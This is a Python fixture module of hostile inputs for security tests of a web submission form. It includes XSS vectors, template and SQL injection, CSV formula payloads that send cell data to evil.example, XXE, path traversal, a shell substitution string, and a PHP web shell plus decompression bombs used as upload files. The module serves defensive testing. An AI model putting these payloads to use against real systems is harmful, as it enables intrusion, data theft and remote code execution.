"""Hostile input, as data: every payload has a name, a category and the text (or bytes) an attacker would send.

The tests in ``test_hostile_*.py`` put these into every text field of the submission
wizard and the case, then look WHERE THE TEXT IS SHOWN (the public case page, search
highlights, the admin editor and moderation queue, "My submissions"). Markup payloads
carry a unique token (``hx0001``…) so a test can tell, after parsing the HTML, whether a
payload became a tag, an attribute or script text instead of plain, escaped text.

Categories:

* ``markup``: script and HTML injection, event handlers, ``javascript:`` and ``data:``
  URLs, SVG/MathML, attribute and element break-outs (``">``, ``</textarea>``…).
* ``template``: template-engine syntax (Django, Jinja, JS template literals, SSI, ESI).
* ``formula``: spreadsheet formula injection for CSV exports (``=``, ``+``, ``-``, ``@``, tab, CR).
* ``unicode``: direction overrides, zero-width and invisible characters, homoglyphs,
  combining marks, astral characters, the highlight sentinels.
* ``injection``: SQL, Elasticsearch query syntax, path traversal, CRLF header injection,
  JSON break-outs, format strings — text that must stay text.
* ``control``: NUL and other control characters (a NUL is refused with a message).
* ``empty``: empty, whitespace-only and invisible-only values.
* ``query``: malformed query strings (bad percent-encoding, repeated keys, huge numbers, arrays).
* ``upload``: lying and malicious files for the image upload (``UPLOADS``, built lazily).
"""

from __future__ import annotations

import io
import struct
import zlib
from dataclasses import dataclass


@dataclass(frozen=True)
class Payload:
    name: str
    category: str
    text: str
    #: A markup payload's unique token: if it ever appears in a tag, an attribute or script text, the payload ran.
    token: str = ""


# --- Markup: one vector per line; {t} is the payload's unique token --------------------------------------

_VECTORS: list[tuple[str, str]] = [
    ("script", "<script>alert('{t}')</script>"),
    ("script-src", "<script src=//evil.example/{t}.js></script>"),
    ("script-upper", "<SCRIPT>alert('{t}')</SCRIPT>"),
    ("script-nested", "<scr<script>ipt>alert('{t}')</scr</script>ipt>"),
    ("script-newline", "<script\n>alert('{t}')</script\n>"),
    ("img-onerror", "<img src=x onerror=alert('{t}')>"),
    ("img-onerror-quoted", '<img src="x" onerror="alert(\'{t}\')">'),
    ("img-onerror-slash", "<img/src/onerror=alert('{t}')>"),
    ("svg-onload", "<svg onload=alert('{t}')>"),
    ("svg-script", "<svg><script>alert('{t}')</script></svg>"),
    ("svg-animate", "<svg><animate onbegin=alert('{t}') attributeName=x dur=1s>"),
    ("svg-a-xlink", "<svg><a xlink:href=\"javascript:alert('{t}')\"><text>x</text></a></svg>"),
    ("math-href", "<math><mtext><a href=\"javascript:alert('{t}')\">x</a></mtext></math>"),
    ("body-onload", "<body onload=alert('{t}')>"),
    ("iframe-src", "<iframe src=\"javascript:alert('{t}')\"></iframe>"),
    ("iframe-srcdoc", "<iframe srcdoc=\"<script>alert('{t}')</script>\"></iframe>"),
    ("a-javascript", "<a href=\"javascript:alert('{t}')\">click</a>"),
    ("a-javascript-entity", "<a href=\"&#106;avascript:alert('{t}')\">click</a>"),
    ("a-data-url", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{t}\">x</a>"),
    ("a-vbscript", "<a href=\"vbscript:msgbox('{t}')\">x</a>"),
    ("object-data", "<object data=\"javascript:alert('{t}')\"></object>"),
    ("embed-src", "<embed src=\"javascript:alert('{t}')\">"),
    ("form-action", "<form action=\"javascript:alert('{t}')\"><button>go</button></form>"),
    ("button-formaction", "<button formaction=\"javascript:alert('{t}')\">x</button>"),
    ("input-autofocus", "<input autofocus onfocus=alert('{t}')>"),
    ("details-ontoggle", "<details open ontoggle=alert('{t}')>"),
    ("video-source", "<video><source onerror=alert('{t}')></video>"),
    ("audio-src", "<audio src=x onerror=alert('{t}')>"),
    ("marquee", "<marquee onstart=alert('{t}')>x</marquee>"),
    ("div-style-expression", "<div style=\"width:expression(alert('{t}'))\">x</div>"),
    ("style-import", "<style>@import 'https://evil.example/{t}.css';</style>"),
    ("link-stylesheet", "<link rel=stylesheet href=//evil.example/{t}.css>"),
    ("meta-refresh", "<meta http-equiv=refresh content=\"0;url=javascript:alert('{t}')\">"),
    ("base-href", "<base href=//evil.example/{t}/>"),
    ("comment-breakout", "<!--><script>alert('{t}')</script>-->"),
    ("cdata", "<![CDATA[<script>alert('{t}')</script>]]>"),
    ("html-entity-script", "&lt;script&gt;alert('{t}')&lt;/script&gt;<script>alert('{t}')</script>"),
    ("unicode-escape", "\\u003cscript\\u003ealert('{t}')\\u003c/script\\u003e<b id={t}>x</b>"),
    ("bold-onmouseover", "<b onmouseover=alert('{t}')>bold</b>"),
    ("template-element", "<template><img src=x onerror=alert('{t}')></template>"),
    ("noscript-breakout", "<noscript><p title=\"</noscript><img src=x onerror=alert('{t}')>\">"),
    ("mark-injection", "</mark><script>alert('{t}')</script><mark>"),
    ("textarea-breakout", "</textarea><script>alert('{t}')</script>"),
    ("title-breakout", "</title><script>alert('{t}')</script>"),
    ("option-breakout", "</option></select><img src=x onerror=alert('{t}')>"),
    ("json-script-breakout", "</script><script>alert('{t}')</script>"),
    ("attribute-double", "\"><img src=x onerror=alert('{t}')>"),
    ("attribute-single", "'><img src=x onerror=alert('{t}')>"),
    ("attribute-unquoted", " onmouseover=alert('{t}') x="),
    ("attribute-backtick", "`><img src=x onerror=alert('{t}')>"),
    ("attribute-autofocus", "\" autofocus onfocus=\"alert('{t}')"),
    ("javascript-url-bare", "javascript:alert('{t}')"),
    ("javascript-url-spaced", " \tjavascript:alert('{t}')"),
    ("data-url-bare", "data:text/html,<script>alert('{t}')</script>"),
    ("polyglot", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert('{t}') )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert('{t}')//>\\x3e"),
    ("angular-expression", "<div ng-app>{{constructor.constructor('alert(\"{t}\")')()}}</div>"),
    ("vue-expression", "<div v-html=\"'<img src=x onerror=alert({t})>'\"></div>"),
    ("htmx-attribute", "<div hx-get=\"//evil.example/{t}\" hx-trigger=load></div>"),
    ("stimulus-attribute", "<div data-controller=x data-action=\"click->x#{t}\"></div>"),
]
#: Each vector is sent as typed, and after the break-outs an attacker tries first.
_BREAKOUTS: list[tuple[str, str]] = [("plain", ""), ("after-text", "Road cameras "), ("after-quote", "\">")]

MARKUP: list[Payload] = []
for _breakout_name, _prefix in _BREAKOUTS:
    for _vector_name, _vector in _VECTORS:
        _token = f"hx{len(MARKUP):04d}"
        MARKUP.append(Payload(f"{_vector_name}-{_breakout_name}", "markup", _prefix + _vector.replace("{t}", _token), _token))

TEMPLATE: list[Payload] = [
    Payload("django-variable", "template", "{{ 7|add:1330 }} {{ request.user.email }}"),
    Payload("django-tag", "template", "{% load static %}{% debug %}{% now 'Y' %}"),
    Payload("django-settings", "template", "{{ settings.SECRET_KEY }}{{ SECRET_KEY }}"),
    Payload("django-comment", "template", "{# hidden #}visible"),
    Payload("django-csrf", "template", "{% csrf_token %}{{ csrf_token }}"),
    Payload("django-include", "template", "{% include '/etc/passwd' %}"),
    Payload("jinja-class", "template", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    Payload("jinja-config", "template", "{{ config.items() }}{{ self }}"),
    Payload("js-template-literal", "template", "${alert(1337)}`${document.cookie}`"),
    Payload("erb", "template", "<%= 7 * 191 %>"),
    Payload("ssi", "template", "<!--#exec cmd=\"ls\" -->"),
    Payload("esi", "template", "<esi:include src=\"http://evil.example/\"/>"),
    Payload("handlebars", "template", "{{#with \"s\" as |string|}}{{string.sub}}{{/with}}"),
    Payload("python-format", "template", "{0.__class__} {user.password} %(password)s %s %n"),
    Payload("wagtail-richtext-link", "template", "<a linktype=\"page\" id=\"1\">home</a>"),
    Payload("wagtail-embed", "template", "<embed embedtype=\"image\" id=\"1\" format=\"full\"/>"),
]

FORMULA: list[Payload] = [
    Payload("hyperlink", "formula", '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'),
    Payload("cmd-plus", "formula", "+cmd|' /C calc'!A0"),
    Payload("minus-arith", "formula", "-2+3"),
    Payload("at-sum", "formula", "@SUM(1+1)*cmd|' /C calc'!A0"),
    Payload("equals-cmd", "formula", "=cmd|' /C notepad'!'A1'"),
    Payload("dde", "formula", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")"),
    Payload("importxml", "formula", '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")'),
    Payload("webservice", "formula", '=WEBSERVICE("http://evil.example/"&A1)'),
    Payload("tab-equals", "formula", "\t=1+1"),
    Payload("cr-equals", "formula", "\r=1+1"),
    Payload("fullwidth-equals", "formula", "＝1+1"),
    Payload("quoted-equals", "formula", "\"=1+1\""),
    Payload("leading-space-equals", "formula", " =1+1"),
    Payload("semicolon-csv", "formula", "a;b,c\n=1+1,\"x\""),
]

UNICODE: list[Payload] = [
    Payload("rlo", "unicode", "Invoice\u202egnp.exe"),
    Payload("rlo-title", "unicode", "\u202eevil\u202c normal"),
    Payload("lro-pdf", "unicode", "\u202dforced\u202c"),
    Payload("rli-fsi-pdi", "unicode", "\u2067rtl\u2069 \u2068first\u2069 \u2066ltr\u2069"),
    Payload("rlm-lrm", "unicode", "\u200fa\u200eb"),
    Payload("arabic-letter-mark", "unicode", "\u061cmark"),
    Payload("zero-width-space", "unicode", "scr\u200bipt"),
    Payload("zero-width-joiners", "unicode", "a\u200c\u200db"),
    Payload("word-joiner", "unicode", "a\u2060b"),
    Payload("bom", "unicode", "\ufeffleading bom"),
    Payload("soft-hyphen", "unicode", "in\u00advisible"),
    Payload("mongolian-vowel-separator", "unicode", "a\u180eb"),
    Payload("tag-characters", "unicode", "flag\U000e0041\U000e0042\U000e007f"),
    Payload("homoglyph-cyrillic", "unicode", "Іnterроl"),
    Payload("fullwidth-lt", "unicode", "＜script＞alert(1)＜/script＞"),
    Payload("small-lt", "unicode", "\ufe64script\ufe65"),
    Payload("combining-zalgo", "unicode", "Z\u0351\u0354\u0300a\u0336\u0489l\u0337g\u035co\u0338"),
    Payload("emoji-zwj", "unicode", "👮\u200d♀️🚓🏳️\u200d🌈"),
    Payload("astral-math", "unicode", "𝓗𝓮𝓵𝓵𝓸 𝟘𝟙𝟚"),
    Payload("rtl-text", "unicode", "شرطة ذكاء اصطناعي"),
    Payload("cjk", "unicode", "人工智能执法"),
    Payload("line-separators", "unicode", "one\u2028two\u2029three"),
    Payload("nbsp-variety", "unicode", "a\u00a0b\u2007c\u202fd\u3000e"),
    Payload("highlight-sentinels", "unicode", "\x02<b>marked</b>\x03 and \x02unbalanced"),
    Payload("private-use", "unicode", "\ue000\uf8ff"),
    Payload("replacement", "unicode", "\ufffd\ufffe"),
    Payload("ideographic-variation", "unicode", "葛\U000e0100"),
]

INJECTION: list[Payload] = [
    Payload("sql-or", "injection", "' OR '1'='1' --"),
    Payload("sql-union", "injection", "1 UNION SELECT email, password FROM portal_user--"),
    Payload("sql-drop", "injection", "Robert'); DROP TABLE portal_submission;--"),
    Payload("sql-sleep", "injection", "1' AND pg_sleep(5)--"),
    Payload("sql-like", "injection", "%_%\\%"),
    Payload("es-query-syntax", "injection", "title:(* OR *) AND _exists_:contact_email"),
    Payload("es-regex", "injection", "/.*(a+)+$/"),
    Payload("es-script", "injection", "{\"script\":{\"source\":\"Runtime.getRuntime().exec('id')\"}}"),
    Payload("path-traversal", "injection", "../../../../etc/passwd"),
    Payload("path-windows", "injection", "..\\..\\windows\\win.ini"),
    Payload("crlf-header", "injection", "Subject\r\nBcc: victim@example.org\r\n\r\nbody"),
    Payload("lf-header", "injection", "x\nContent-Type: text/html\n\n<h1>x</h1>"),
    Payload("json-breakout", "injection", "\"}, \"is_superuser\": true, \"x\": {\""),
    Payload("json-escapes", "injection", "\\\"\\u0000\\n\\\\"),
    Payload("xml-entity", "injection", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"),
    Payload("ldap", "injection", "*)(uid=*))(|(uid=*"),
    Payload("shell", "injection", "$(id) `id` ; id | id && id"),
    Payload("log-forging", "injection", "ok\n2026-01-01 ERROR admin logged in"),
    Payload("ampersand-entities", "injection", "&amp;amp; &lt; &#60; &#x3C; &nbsp;"),
    Payload("backslashes", "injection", "\\\\server\\share\\"),
    Payload("url-encoded", "injection", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    Payload("double-url-encoded", "injection", "%253Cscript%253E"),
    Payload("markdown-link", "injection", "[click](javascript:alert(1)) ![x](https://evil.example/p.png)"),
    Payload("email-like", "injection", "\"<script>\"@example.org"),
    Payload("long-word", "injection", "A" * 1000),
]

CONTROL: list[Payload] = [
    Payload("nul", "control", "before\x00after"),
    Payload("nul-only", "control", "\x00"),
    Payload("nul-in-markup", "control", "<scr\x00ipt>alert(1)</script>"),
]

#: Control characters that are not NUL: accepted, stored and shown without breaking the page.
CONTROL_KEPT: list[Payload] = [
    Payload("bell-backspace", "control", "bell\x07back\x08space"),
    Payload("escape-sequence", "control", "\x1b[31mred\x1b[0m"),
    Payload("vertical-tab-formfeed", "control", "a\x0bb\x0cc"),
    Payload("delete-char", "control", "del\x7fete"),
    Payload("c1-controls", "control", "\x85\x9b\x9d"),
]

EMPTY: list[Payload] = [
    Payload("empty", "empty", ""),
    Payload("spaces", "empty", "     "),
    Payload("tabs-newlines", "empty", "\t\n\r\n"),
    Payload("nbsp-only", "empty", "\u00a0\u00a0"),
    Payload("zero-width-only", "empty", "\u200b\u200c\u200d"),
]

#: Raw query strings (after the "?"), sent to every page that reads one.
QUERY: list[Payload] = [
    Payload("bad-percent", "query", "q=%zz%"),
    Payload("bad-percent-utf8", "query", "q=%C3%28%FF%FE"),
    Payload("lone-percent", "query", "q=%"),
    Payload("overlong-utf8", "query", "q=%C0%BCscript%C0%BE"),
    Payload("repeated-keys", "query", "q=a&q=b&page=1&page=2&sort=title&sort=newest"),
    Payload("php-array", "query", "q[]=a&q[]=b&page[]=1&stage[x]=pilot"),
    Payload("huge-page", "query", "page=99999999999999999999999999999999"),
    Payload("negative-page", "query", "page=-1"),
    Payload("float-page", "query", "page=1e308"),
    Payload("nan-page", "query", "page=NaN"),
    Payload("unicode-digits", "query", "page=%D9%A3"),
    Payload("empty-keys", "query", "=&&=x&q"),
    Payload("only-ampersands", "query", "&&&&&&"),
    Payload("semicolons", "query", "q=a;page=2;sort=title"),
    Payload("plus-and-space", "query", "q=a+b%20c"),
    Payload("nul-in-query", "query", "q=%00&stage=%00"),
    Payload("script-in-values", "query", "q=%3Cscript%3Ealert(1)%3C/script%3E&sort=%3Cb%3E&stage=%22%3E%3Cimg"),
    Payload("very-long-value", "query", "q=" + "a" * 8000),
    Payload("many-keys", "query", "&".join(f"k{i}=v" for i in range(500))),
    Payload("bidi-in-query", "query", "q=%E2%80%AEevil"),
]

#: Every text payload that the wizard must accept, store as typed and show escaped.
STORED: list[Payload] = MARKUP + TEMPLATE + FORMULA + UNICODE + INJECTION + CONTROL_KEPT
#: Every payload (text ones and query strings); uploads are in ``UPLOADS``.
ALL: list[Payload] = STORED + CONTROL + EMPTY + QUERY


# --- Uploads: lying and malicious files ----------------------------------------------------------------


@dataclass(frozen=True)
class Upload:
    name: str
    filename: str
    content_type: str
    content: bytes
    accepted: bool  # a real image (whatever its name) is accepted and re-encoded; anything else is refused


def _png(size: tuple[int, int] = (32, 24), fmt: str = "PNG") -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", size, "#0b3d6b").save(buffer, format=fmt)
    return buffer.getvalue()


def _png_header_only(width: int, height: int) -> bytes:
    """A valid PNG signature and IHDR declaring huge dimensions, with one tiny compressed IDAT."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + chunk(b"IEND", b"")


SVG_SCRIPT = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.domain)</script></svg>'
HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
PHP_SHELL = b"<?php system($_GET['c']); ?>"


def uploads() -> list[Upload]:
    png = _png()
    jpeg = _png(fmt="JPEG")
    gif = _png(fmt="GIF")
    bmp = _png(fmt="BMP")
    return [
        Upload("svg-as-png", "diagram.png", "image/png", SVG_SCRIPT, False),
        Upload("svg-as-svg", "diagram.svg", "image/svg+xml", SVG_SCRIPT, False),
        Upload("html-as-jpg", "photo.jpg", "image/jpeg", HTML_PAGE, False),
        Upload("php-as-png", "shell.png", "image/png", PHP_SHELL, False),
        Upload("php-double-extension", "shell.php.png", "image/png", PHP_SHELL, False),
        Upload("php-after-png-header", "shell.png", "image/png", png[:16] + PHP_SHELL, False),
        Upload("gif-magic-then-script", "x.gif", "image/gif", b"GIF89a/*<script>alert(1)</script>*/", False),
        Upload("real-gif", "anim.png", "image/png", gif, False),
        Upload("real-bmp", "pic.png", "image/png", bmp, False),
        Upload("pdf-as-png", "doc.png", "image/png", b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF", False),
        Upload("zip-as-jpg", "x.jpg", "image/jpeg", b"PK\x03\x04" + b"\x00" * 60, False),
        Upload("zero-bytes", "empty.png", "image/png", b"", False),
        Upload("one-byte", "one.png", "image/png", b"\x89", False),
        Upload("truncated-png", "cut.png", "image/png", png[: len(png) // 2], False),
        Upload("truncated-jpeg", "cut.jpg", "image/jpeg", _png((400, 300), "JPEG")[:600], False),
        Upload("decompression-bomb", "bomb.png", "image/png", _png_header_only(60000, 60000), False),
        Upload("huge-width", "wide.png", "image/png", _png_header_only(2_000_000, 1), False),
        Upload("png-with-php-trailer", "trailer.png", "image/png", png + PHP_SHELL, True),
        Upload("png-with-html-trailer", "trailer.png", "image/png", png + HTML_PAGE, True),
        Upload("jpeg-named-png", "photo.png", "image/png", jpeg, True),
        Upload("png-named-html", "page.html", "text/html", png, True),
        Upload("png-named-php", "shell.php", "application/x-php", png, True),
        Upload("png-hostile-name", "\"><img src=x onerror=alert(1)>.png", "image/png", png, True),
        Upload("png-traversal-name", "../../../../etc/cron.d/x.png", "image/png", png, True),
    ]
